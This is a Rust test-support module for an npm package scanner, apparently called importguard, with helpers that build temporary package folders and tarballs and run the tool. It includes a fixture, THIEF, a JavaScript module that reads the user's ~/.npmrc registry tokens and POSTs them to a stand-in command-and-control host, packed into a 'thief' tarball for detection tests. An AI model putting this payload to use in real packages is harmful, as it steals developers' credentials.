//! A folder that lasts as long as a test, and the program run in it.

use std::{
    ffi::OsStr,
    fs,
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::atomic::{AtomicU32, Ordering},
};

use flate2::{Compression, write::GzEncoder};
use serde_json::Value;

/// Sends the user's registry tokens away: critical, whatever else is said of it.
pub(crate) const THIEF: &str = "const https = require('https');
const tokens = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
const request = https.request({ hostname: 'c2.example.invalid', method: 'POST' });
request.end(tokens);
";

static COUNT: AtomicU32 = AtomicU32::new(0);

pub(crate) struct Folder {
    root: PathBuf,
}

impl Folder {
    pub(crate) fn new() -> Self {
        let number = COUNT.fetch_add(1, Ordering::Relaxed);
        let name = format!("cli-{}-{number}", std::process::id());
        let root = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
        fs::create_dir_all(&root).unwrap();
        Self { root }
    }

    pub(crate) fn path(&self, inner: impl AsRef<Path>) -> PathBuf {
        self.root.join(inner)
    }

    /// A file, with the folders above it.
    pub(crate) fn file(&self, inner: impl AsRef<Path>, content: impl AsRef<[u8]>) -> &Self {
        let path = self.path(inner);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
        self
    }

    /// A package of a manifest and one module.
    pub(crate) fn package(&self, inner: &str, name: &str, code: &str) -> &Self {
        let manifest = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"main\": \"index.js\"}}\n");
        self.file(format!("{inner}/package.json"), manifest)
            .file(format!("{inner}/index.js"), code)
    }

    #[cfg(unix)]
    pub(crate) fn link(&self, inner: &str, target: &str) -> &Self {
        let path = self.path(inner);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, path).unwrap();
        self
    }

    pub(crate) fn run<S: AsRef<OsStr>>(&self, arguments: impl IntoIterator<Item = S>) -> Ran {
        self.run_with(arguments, &[], b"")
    }

    pub(crate) fn run_with<S: AsRef<OsStr>>(
        &self,
        arguments: impl IntoIterator<Item = S>,
        variables: &[(&str, &str)],
        input: &[u8],
    ) -> Ran {
        let mut child = self
            .command()
            .args(arguments)
            .envs(variables.iter().copied())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        // The program may end without reading.
        let _ = stdin.write_all(input);
        drop(stdin);
        let output = child.wait_with_output().unwrap();
        Ran {
            status: output.status.code().unwrap(),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        }
    }

    /// The program, with nothing of the environment that changes its output.
    pub(crate) fn command(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_importguard"));
        command
            .current_dir(&self.root)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for name in ["NO_COLOR", "CLICOLOR", "CLICOLOR_FORCE", "COLUMNS", "TERM", "CI"] {
            command.env_remove(name);
        }
        // No registry but the test's own: nobody listens at this address.
        command
            .env("npm_config_registry", "http://127.0.0.1:9/")
            .env("npm_config_fetch_retries", "0")
            .env("IMPORTGUARD_CACHE", self.path(".cache"));
        command
    }

    /// The report of `scan --format json` with these further arguments.
    pub(crate) fn report(&self, arguments: &[&str]) -> Value {
        let ran = self.run(["scan", "--format", "json"].iter().chain(arguments));
        serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"))
    }

    /// The paths of the packages that a scan finds.
    pub(crate) fn found(&self, arguments: &[&str]) -> Vec<String> {
        let report = self.report(arguments);
        let packages = report["packages"].as_array().unwrap().iter();
        packages
            .map(|package| package["path"].as_str().unwrap().to_owned())
            .collect()
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.root);
    }
}

/// How a run ended.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Ran {
    pub(crate) status: i32,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

/// A package's tarball.
pub(crate) fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        archive
            .append_data(&mut header, format!("package/{path}"), content.as_bytes())
            .unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

/// The tarball of the thief.
pub(crate) fn thief_tarball() -> Vec<u8> {
    let manifest = "{\"name\": \"thief\", \"version\": \"1.0.0\", \"main\": \"index.js\"}";
    tarball(&[("package.json", manifest), ("index.js", THIEF)])
}
